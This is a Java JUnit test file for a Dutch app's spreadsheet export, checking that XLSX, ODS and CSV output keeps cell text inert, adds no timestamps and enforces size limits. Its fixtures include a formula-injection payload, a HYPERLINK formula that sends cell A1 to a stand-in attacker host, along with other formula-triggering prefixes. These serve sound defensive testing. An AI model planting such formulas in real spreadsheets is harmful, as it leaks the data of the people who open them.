package nl.kundig.app.table;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Objects;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;

import com.github.miachm.sods.Sheet;
import com.github.miachm.sods.SpreadSheet;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

class TableFilesTests {

	private static final LocalDate DAY = LocalDate.of(2027, 3, 28);

	private static final String FORMULA = "=HYPERLINK(\"https://kwaad.example?\"&A1;\"klik\")";

	private static final List<String> NASTY = List.of(FORMULA, "+31", "-1", "@SUM(A1)", "\tx", "Zoë; \"Zo\" de Vrïes",
			"twee\nregels", "<b>&amp;</b>", "😀 Łódź", " =1+1");

	private static final Table PEOPLE = new Table("Deelnemers", List.of("Naam", "Aantal", "Dag"),
			NASTY.stream().map((text) -> List.of(Cell.of(text), Cell.of(18), Cell.of(DAY))).toList());

	private static final Table ABOUT = new Table("Over", List.of("Wat", "Waarde"),
			List.of(List.of(Cell.of("Peildatum"), Cell.of(DAY)), List.of(Cell.of("Leeg"), Cell.EMPTY)));

	@Test
	void excelReadsTextsNumbersAndDays() throws IOException {
		byte[] file = TableFiles.write(TableFormat.XLSX, List.of(PEOPLE, ABOUT));
		try (ReadableWorkbook book = new ReadableWorkbook(new ByteArrayInputStream(file))) {
			assertThat(book.getSheets().map((sheet) -> sheet.getName())).containsExactly("Deelnemers", "Over");
			List<Row> rows = book.getFirstSheet().read();
			assertThat(rows.getFirst().getCellText(0)).isEqualTo("Naam");
			for (int i = 0; i < NASTY.size(); i++) {
				Row row = rows.get(i + 1);
				assertThat(row.getCell(0).getType()).isEqualTo(CellType.STRING);
				assertThat(row.getCell(0).getFormula()).isNull();
				assertThat(row.getCellText(0)).isEqualTo(NASTY.get(i));
				assertThat(row.getCell(1).asNumber().intValueExact()).isEqualTo(18);
				assertThat(row.getCell(2).asDate().toLocalDate()).isEqualTo(DAY);
			}
		}
	}

	@Test
	void libreOfficeReadsTextsNumbersAndDays() throws IOException {
		byte[] file = TableFiles.write(TableFormat.ODS, List.of(PEOPLE, ABOUT));
		SpreadSheet book = new SpreadSheet(new ByteArrayInputStream(file));
		assertThat(book.getSheets()).extracting(Sheet::getName).containsExactly("Deelnemers", "Over");
		Sheet sheet = book.getSheet(0);
		assertThat(sheet.getRange(0, 0).getValue()).isEqualTo("Naam");
		for (int i = 0; i < NASTY.size(); i++) {
			assertThat(sheet.getRange(i + 1, 0).getValue()).isEqualTo(NASTY.get(i));
			assertThat(sheet.getRange(i + 1, 0).getFormula()).isNull();
			assertThat(((Number) Objects.requireNonNull(sheet.getRange(i + 1, 1).getValue())).intValue()).isEqualTo(18);
			assertThat(sheet.getRange(i + 1, 2).getValue()).isEqualTo(DAY);
		}
		assertThat(book.getSheet(1).getRange(2, 1).getValue()).isNull();
	}

	@Test
	void openDocumentTellsItsKindFirstAndUncompressed() throws IOException {
		byte[] file = TableFiles.write(TableFormat.ODS, List.of(PEOPLE));
		try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(file))) {
			ZipEntry first = zip.getNextEntry();
			assertThat(first.getName()).isEqualTo("mimetype");
			assertThat(first.getMethod()).isEqualTo(ZipEntry.STORED);
			assertThat(zip.readAllBytes()).asString().isEqualTo(TableFormat.ODS.mediaType());
		}
	}

	@Test
	void csvOpensInDutchExcelAndCalculatesNothing() throws IOException {
		byte[] file = TableFiles.write(TableFormat.CSV, List.of(PEOPLE, ABOUT));
		assertThat(file).startsWith(0xEF, 0xBB, 0xBF);
		String text = new String(file, 3, file.length - 3, StandardCharsets.UTF_8);
		assertThat(text).startsWith("Naam;Aantal;Dag\r\n").contains(";18;28-03-2027\r\n").doesNotContain("Peildatum");
		List<CsvRecord> rows = new ArrayList<>();
		try (CsvReader<CsvRecord> csv = CsvReader.builder().fieldSeparator(';').ofCsvRecord(text)) {
			csv.forEach(rows::add);
		}
		assertThat(rows).hasSize(NASTY.size() + 1);
		for (int i = 0; i < NASTY.size(); i++) {
			String cell = rows.get(i + 1).getField(0);
			assertThat(cell).isEqualTo(PlainText.isFormula(NASTY.get(i)) ? "'" + NASTY.get(i) : NASTY.get(i));
			assertThat(PlainText.isFormula(cell)).isFalse();
			assertThat(PlainText.original(cell)).isEqualTo(NASTY.get(i));
		}
	}

	@ParameterizedTest
	@ValueSource(strings = { "=1", "+1", "-1", "@x", "\tx", "\rx", "\nx", " =1", "＝1", "  \t=1" })
	void whatBeginsLikeAFormulaGetsAnApostrophe(String text) {
		assertThat(PlainText.safe(text)).isEqualTo("'" + text);
		assertThat(PlainText.original(PlainText.safe(text))).isEqualTo(text);
	}

	@ParameterizedTest
	@ValueSource(strings = { "", " ", "Anna", "'t Hart", "a=b", "jan-willem@stad.example" })
	void otherTextStaysAsItIs(String text) {
		assertThat(PlainText.safe(text)).isEqualTo(text);
		assertThat(PlainText.original(text)).isEqualTo(text);
	}

	@ParameterizedTest
	@EnumSource(names = { "ODS", "CSV" })
	void sameTablesGiveSameBytes(TableFormat format) {
		byte[] first = TableFiles.write(format, List.of(PEOPLE, ABOUT));
		assertThat(TableFiles.write(format, List.of(PEOPLE, ABOUT))).isEqualTo(first);
	}

	@Test
	void openDocumentDoesNotTellWhenItWasWritten() throws IOException {
		byte[] file = TableFiles.write(TableFormat.ODS, List.of(PEOPLE, ABOUT));
		String year = String.valueOf(LocalDate.now(ZoneOffset.UTC).getYear());
		try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(file))) {
			for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
				assertThat(entry.getTimeLocal().getYear()).isEqualTo(1980);
				assertThat(zip.readAllBytes()).asString().doesNotContain(year);
			}
		}
	}

	@ParameterizedTest
	@EnumSource(TableFormat.class)
	void largestTableIsWrittenInMemory(TableFormat format) {
		List<List<Cell>> rows = new ArrayList<>();
		for (int i = 0; i < Table.MOST_ROWS; i++) {
			rows.add(List.of(Cell.of("Persoon " + i), Cell.of("persoon" + i + "@stad.example"), Cell.of(i)));
		}
		byte[] file = TableFiles.write(format, List.of(new Table("Veel", List.of("Naam", "E-mail", "Nr"), rows)));
		assertThat(file.length).isBetween(50_000, 2_000_000);
	}

	@Test
	void whatAFileCannotHoldIsReplacedOrCutOff() {
		assertThat(new Cell.Text("a\0b\uD800c").value()).isEqualTo("a\uFFFDb\uFFFDc");
		assertThat(new Cell.Text("x".repeat(32_766) + "😀").value()).hasSize(32_766).endsWith("x");
		for (TableFormat format : TableFormat.values()) {
			Table odd = new Table("Raar", List.of("\u0001kop"), List.of(List.of(Cell.of("\u0007\uFFFE"))));
			assertThat(TableFiles.write(format, List.of(odd))).isNotEmpty();
		}
	}

	@Test
	void refusesTablesThatAreNoTables() {
		List<Cell> cell = List.of(Cell.EMPTY);
		assertThatIllegalArgumentException().isThrownBy(() -> new Table("x", List.of(), List.of()));
		assertThatIllegalArgumentException().isThrownBy(() -> new Table("x", List.of("a", "b"), List.of(cell)));
		assertThatIllegalArgumentException().isThrownBy(() -> new Table("a/b", List.of("a"), List.of(cell)));
		assertThatIllegalArgumentException().isThrownBy(() -> new Table("x".repeat(32), List.of("a"), List.of(cell)));
		assertThatIllegalArgumentException()
			.isThrownBy(() -> new Table("x", List.of("a"), Collections.nCopies(10_001, cell)));
		Table one = new Table("x", List.of("a"), List.of(cell));
		assertThatIllegalArgumentException().isThrownBy(() -> TableFiles.write(TableFormat.CSV, List.of()));
		assertThatIllegalArgumentException().isThrownBy(() -> TableFiles.write(TableFormat.ODS, List.of(one, one)));
	}

	@Test
	void formatIsFoundByTheEndOfAName() {
		assertThat(TableFormat.of("ods")).contains(TableFormat.ODS);
		assertThat(TableFormat.of("exe")).isEmpty();
	}

}
